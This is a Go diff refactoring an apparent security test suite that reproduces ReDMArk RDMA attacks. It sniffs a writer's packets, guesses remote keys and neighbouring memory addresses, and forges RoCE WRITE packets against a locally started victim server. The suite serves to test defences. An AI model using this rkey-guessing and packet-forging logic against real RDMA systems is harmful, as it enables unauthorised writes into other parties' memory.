@@ -24,7 +24,12 @@ type guess struct {
 // The attacker tries the secret MR's own rkey (sniffed from its legitimate
 // writer), then neighbours of it and of its grant, and random keys.
 func (s *Suite) rkeyPD() (Outcome, string) {
-	return s.rkeyGuess([]string{"--mode", "server", "--pd", "separate", "--a", AddrWriter.String(), "--b", AddrServer.String()}, nil, true)
+	v, err := s.startVictim(nil, "--mode", "server", "--pd", "separate", "--a", AddrWriter.String(), "--b", AddrServer.String())
+	if err != nil {
+		return failed("victim", err)
+	}
+	defer v.stop()
+	return s.rkeyGuess(v, AddrWriter, AddrServer, nil, true)
 }
 
 // rkeyProcess: the client QP and the secret MR share a PD (ReDMArk's V9),
@@ -51,25 +56,27 @@ func (s *Suite) rkeyProcess() (Outcome, string) {
 		own = append(own, mr.RKey())
 		defer mr.Dereg()
 	}
-	return s.rkeyGuess([]string{"--mode", "server", "--pd", "same", "--a", AddrWriter.String(), "--b", AddrServer.String()}, own, false)
-}
-
-// rkeyGuess runs a server victim with args and tries guesses against it,
-// each on a fresh client QP (a refused rkey moves the server's QP to ERR).
-func (s *Suite) rkeyGuess(args []string, own []uint32, useSniffed bool) (Outcome, string) {
-	mark := s.sn.Mark()
-	v, err := s.startVictim(nil, args...)
+	v, err := s.startVictim(nil, "--mode", "server", "--pd", "same", "--a", AddrWriter.String(), "--b", AddrServer.String())
 	if err != nil {
 		return failed("victim", err)
 	}
 	defer v.stop()
+	return s.rkeyGuess(v, AddrWriter, AddrServer, own, false)
+}
+
+// rkeyGuess tries guesses against a server victim whose writer and server
+// are on the addresses given, each on a fresh client QP (a refused rkey
+// moves the server's QP to ERR). The sniffer's packets since the victim
+// started are the attacker's knowledge.
+func (s *Suite) rkeyGuess(v *proc, writer, server netip.Addr, own []uint32, useSniffed bool) (Outcome, string) {
+	mark := v.mark
 	grant, err := v.ask(command{Cmd: "status"})
 	if err != nil {
 		return failed("status", err)
 	}
 	var guesses []guess
 	secretVA := grant.VA + grant.Len // a neighbouring MR's address (V4)
-	w, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(AddrWriter, AddrServer)(x) && isWrite(x) })
+	w, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(writer, server)(x) && isWrite(x) })
 	switch {
 	case ok && w.Decoded:
 		secretVA = w.Packet.RETH.VA + slotLen // outside the writer's slot
@@ -99,7 +106,7 @@ func (s *Suite) rkeyGuess(args []string, own []uint32, useSniffed bool) (Outcome
 	acked, answered := 0, 0
 	hit := ""
 	for _, g := range guesses {
-		a, got, err := s.tryWrite(v, g)
+		a, got, err := s.tryWrite(v, server, g)
 		if err != nil {
 			return failed("guess", err)
 		}
@@ -130,13 +137,13 @@ func (s *Suite) rkeyGuess(args []string, own []uint32, useSniffed bool) (Outcome
 // tryWrite connects a fresh client QP of the server to a QP the attacker
 // plays with its UDP socket and sends one WRITE Only with g. acked: the
 // server acknowledged it; answered: it answered at all.
-func (s *Suite) tryWrite(v *proc, g guess) (acked, answered bool, err error) {
+func (s *Suite) tryWrite(v *proc, server netip.Addr, g guess) (acked, answered bool, err error) {
 	qpn, psn := s.rng.Uint32()&0xffffff|1, s.rng.Uint32()&0xffffff
 	st, err := v.ask(command{Cmd: "connect", QPN: qpn, PSN: psn, Addr: AddrAttacker.String()})
 	if err != nil {
 		return false, false, err
 	}
-	dst := netip.AddrPortFrom(AddrServer, wire.UDPPort)
+	dst := netip.AddrPortFrom(server, wire.UDPPort)
 	p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCWriteOnly, PKey: 0xffff, DestQP: st.QPN, AckReq: true, PSN: psn},
 		RETH: wire.RETH{VA: g.va, RKey: g.rkey, DMALen: 8}, Payload: []byte("ibexatk!")}
 	// The server's QP may take its first packet a moment after connect
